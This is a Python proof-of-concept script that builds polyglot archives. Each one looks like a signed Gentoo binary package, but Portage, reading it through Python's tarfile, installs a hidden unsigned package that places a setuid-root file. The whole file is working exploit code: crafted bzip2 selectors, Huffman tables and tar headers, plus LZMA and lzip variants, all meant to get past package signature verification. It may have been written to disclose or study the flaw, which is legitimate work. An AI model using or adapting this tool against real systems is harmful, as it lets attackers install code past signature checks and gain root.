#!/usr/bin/env python3
"""polyglot.py - hide another package in a signed one, for those who read it with Python's tarfile.

usage: polyglot.py FORM SIGNED.gpkg.tar OUT.gpkg.tar
    FORM  bzip2 | lzma | lzma-max | lzip

OUT is compressed, and unsigned: a package with the name of SIGNED that installs the file /owned, setuid root.
`tarfile.open(OUT, "r")`, and so Portage, tries compressed tars first.

bzip2: OUT is a tar as well, which begins with a GNU long name and goes on with the members of SIGNED, unchanged. A bzip2
block may have more selectors than it needs, and nearly any bytes are selectors, those of a tar header among them. The
Huffman codes that follow have 8 bits each, and only values of printable characters, so that the data is a text: the name of
the directory in that long name.

lzma, lzma-max (the largest window that a header can ask for), lzip: OUT has nothing of SIGNED but its name. Portage wants to
see the magic of a tar in the 257th byte before it opens a file; a member of the package spells it.
"""

import bz2
import hashlib
import io
import itertools
import random
import subprocess
import sys
import tarfile

import lzma_spelled

# Codes of the symbols of the block, and how many there can be.
FIRST_CODE, LAST_CODE = 0x30, 0x7E
TABLES = 4
LONG_NAME_MAX = 4096
# Where a tar says that it is one.
MAGIC_AT = 257
KEYS = ("CATEGORY", "PF", "SLOT", "EAPI", "BUILD_ID", "BUILD_TIME", "repository")


def tar(members, size=tarfile.BLOCKSIZE):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, content, mode, kind in members:
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.type = len(content), mode, kind
            archive.addfile(info, io.BytesIO(content))
    content = out.getvalue().rstrip(b"\0")
    return content + bytes(-len(content) % size + 2 * tarfile.BLOCKSIZE)


def file(name, content, mode=0o644):
    return name, content, mode, tarfile.REGTYPE


def zstd_stored(content):
    """A zstd frame with one uncompressed block."""
    return b"\x28\xb5\x2f\xfd\x00\x58" + (1 | len(content) << 3).to_bytes(3, "little") + content


def metadata_of(path):
    with tarfile.open(path) as container:
        member = next(m for m in container if "/metadata.tar." in m.name and not m.name.endswith(".sig"))
        content = container.extractfile(member).read()
    program = {"zst": "zstd", "xz": "xz", "gz": "gzip", "bz2": "bzip2"}[member.name.rsplit(".", 1)[-1]]
    content = subprocess.run([program, "-dc"], input=content, stdout=subprocess.PIPE, check=True).stdout
    with tarfile.open(fileobj=io.BytesIO(content)) as values:
        return {value.name.removeprefix("metadata/"): values.extractfile(value).read() for value in values}


def hidden_parts(metadata):
    """Members of what Portage shall install instead."""
    values = {key: metadata[key] for key in KEYS if key in metadata}
    values["environment.bz2"] = bz2.compress(b"")
    image = [("image", b"", 0o755, tarfile.DIRTYPE), file("image/owned", b"owned\n", 0o4755)]
    return [
        ("gpkg-1", b""),
        ("metadata.tar.zst", zstd_stored(tar([file(f"metadata/{key}", value) for key, value in values.items()]))),
        ("image.tar.zst", zstd_stored(tar(image))),
    ]


def hidden_package(parts):
    digests = [(name, part, hashlib.sha512(part).hexdigest(), hashlib.blake2b(part).hexdigest()) for name, part in parts]
    lines = [f"DATA {name} {len(part)} SHA512 {sha512} BLAKE2B {blake2b}\n" for name, part, sha512, blake2b in digests]
    parts = [*parts, ("Manifest", "".join(lines).encode())]
    # Nobody reads to the end of the stream, which is none.
    return tar([file(f"e/{name}", part) for name, part in parts]) + bytes(64 << 10)


def run_lengths(data):
    """bzip2's first step, with few different counts."""
    counts = sorted({0, *(byte for byte in set(data))}, reverse=True)
    out, at = bytearray(), 0
    while at < len(data):
        end = at
        while end < len(data) and data[end] == data[at]:
            end += 1
        left = end - at
        while left >= 4:
            count = next(count for count in counts if count <= left - 4)
            out += data[at : at + 1] * 4 + bytes([count])
            left -= 4 + count
        out += data[at : at + 1] * left
        at = end
    return bytes(out)


def symbols_of(data, alphabet):
    """Burrows-Wheeler, move to front, and lengths of runs of zeros: the symbols and the place of the original."""
    order = sorted(range(len(data)), key=lambda start: data[start:] + data[:start])
    front, symbols, zeros = list(alphabet), [], 0

    def run():
        left = zeros
        while left > 0:
            symbols.append(0 if left & 1 else 1)
            left = (left - 1) >> 1 if left & 1 else (left - 2) >> 1

    for start in order:
        place = front.index(data[start - 1])
        if place == 0:
            zeros += 1
            continue
        run()
        zeros = 0
        symbols.append(place + 1)
        front.insert(0, front.pop(place))
    run()
    return symbols + [len(alphabet) + 1], order.index(0)


def bits(value, count):
    return format(value, f"0{count}b")


def table(lengths):
    out, now = bits(lengths[0], 5), lengths[0]
    for length in lengths:
        out += "10" * (length - now) + "11" * (now - length) + "0"
        now = length
    return out


def to_bytes(text):
    return int(text, 2).to_bytes(len(text) // 8, "big")


def block(package):
    """The bits of the block before its selectors, those after them up to its data, and the data."""
    data = run_lengths(package)
    # Two bytes that never come take up the codes below FIRST_CODE.
    alphabet = sorted({*data, 0xFE, 0xFF})
    assert alphabet[-2:] == [0xFE, 0xFF] and not {0xFE, 0xFF} & set(data)
    symbols, original = symbols_of(data, alphabet)
    count = len(alphabet) + 2
    fillers = (count - 3, count - 2)
    coded = [symbol for symbol in range(count) if symbol not in fillers]
    assert len(coded) <= LAST_CODE - FIRST_CODE + 1, f"{len(coded)} symbols"
    code = {symbol: FIRST_CODE + rank for rank, symbol in enumerate(coded)}
    lengths = [{fillers[0]: 3, fillers[1]: 4}.get(symbol, 8) for symbol in range(count)]
    tables = table(lengths) + table([8] * count) * (TABLES - 1)
    groups = [byte // 16 for byte in alphabet]
    before = "0" + bits(original, 24) + "".join("01"[group in groups] for group in range(16))
    for group in sorted(set(groups)):
        before += "".join("01"[group * 16 + low in alphabet] for low in range(16))
    return before + bits(TABLES, 3), tables, bytes(code[symbol] for symbol in symbols)


def long_name_header(before, tables, size):
    """The header block of the long name: the first 512 bytes of both files."""
    start = 8 * 14 + len(before) + 15
    end = 8 * tarfile.BLOCKSIZE - len(tables)
    assert end >= 8 * 346, "the tables do not fit behind the magic"
    for filler in range(256):
        checksum = 0
        for _ in range(8):
            head = bytearray(tarfile.BLOCKSIZE)
            head[99] = filler
            head[124:136] = b"%011o\0" % size
            head[148:156] = b"%06o\0 " % checksum
            head[156:157] = tarfile.GNUTYPE_LONGNAME
            head[257:265] = tarfile.POSIX_MAGIC
            text = bits(int.from_bytes(head, "big"), 8 * len(head))
            selectors = text[start:end]
            text = "0" * (8 * 14) + before + bits(selectors.count("0"), 15) + selectors + tables
            head = bytearray(to_bytes(text))
            head[:14] = b"BZh9\x31\x41\x59\x26\x53\x59" + bytes(4)
            right = sum(head) - sum(head[148:156]) + 8 * ord(" ")
            if right == checksum:
                return bytes(head)
            checksum = right
    raise AssertionError("no filler makes checksum and selectors agree")


def directory_member(member, directory, content):
    """A member of SIGNED as it was, in that directory."""
    long = f"{directory}/{member.name.split('/', 1)[1]}".encode() + b"\0"
    info = tarfile.TarInfo("x")
    info.size, info.mode = member.size, member.mode
    link = tarfile.TarInfo("././@LongLink")
    link.size, link.type = len(long), tarfile.GNUTYPE_LONGNAME
    filled = lambda data: data + bytes(-len(data) % tarfile.BLOCKSIZE)
    headers = (link.tobuf(tarfile.GNU_FORMAT), filled(long), info.tobuf(tarfile.GNU_FORMAT), filled(content))
    return len(long), headers


def bzip2_polyglot(signed):
    package = hidden_package(hidden_parts(metadata_of(signed)))
    before, tables, data = block(package)
    directory = data.decode("ascii")
    assert "/" not in directory
    result = bytearray()
    with tarfile.open(signed) as container:
        for member in container:
            size, (link, name, head, content) = directory_member(member, directory, container.extractfile(member).read())
            assert size <= LONG_NAME_MAX, f"{len(data)} symbols are too many for a long name"
            if not result:
                link = long_name_header(before, tables, size)
            result += link + name + head + content
    result += bytes(2 * tarfile.BLOCKSIZE)
    result += bytes(-len(result) % tarfile.RECORDSIZE)
    found = bz2.BZ2Decompressor().decompress(bytes(result), len(package) - 4096)
    assert package.startswith(found) and len(found) == len(package) - 4096
    return bytes(result)


def spelled_member(encoder, noise, before):
    """Encodes the header of a member, and so much of it that the magic stands where it belongs; that part of it."""
    info = tarfile.TarInfo("e/z")
    info.size = tarfile.BLOCKSIZE
    encoder.bytes(info.tobuf(tarfile.USTAR_FORMAT))
    content = bytearray()
    while before + encoder.settled() < MAGIC_AT:
        content.append(encoder.byte(noise.randrange(256)))
    if before + encoder.settled() > MAGIC_AT:
        raise lzma_spelled.DeadEnd
    return bytes(content + encoder.spell(tarfile.GNU_MAGIC))


def lzma_package(signed, header):
    parts = hidden_parts(metadata_of(signed))
    for seed in itertools.count():
        encoder = lzma_spelled.Encoder()
        try:
            spelled = spelled_member(encoder, random.Random(seed), len(header))
        except lzma_spelled.DeadEnd:
            continue
        first = spelled + bytes(tarfile.BLOCKSIZE - len(spelled))
        package = hidden_package([("z", first), *parts])
        encoder.bytes(package[tarfile.BLOCKSIZE + len(spelled) :])
        return header + encoder.flush()


def lzma_header(window):
    return bytes([lzma_spelled.PROPERTIES]) + window.to_bytes(4, "little") + b"\xff" * 8


FORMS = {
    "bzip2": bzip2_polyglot,
    "lzma": lambda signed: lzma_package(signed, lzma_header(8 << 20)),
    "lzma-max": lambda signed: lzma_package(signed, lzma_header(0xFFFFFFFF)),
    # Version 1, and a window of 8 MiB.
    "lzip": lambda signed: lzma_package(signed, b"LZIP\x01\x17"),
}


def main(form, signed, out):
    package = FORMS[form](signed)
    with open(out, "wb") as file:
        file.write(package)


if __name__ == "__main__":
    main(*sys.argv[1:])
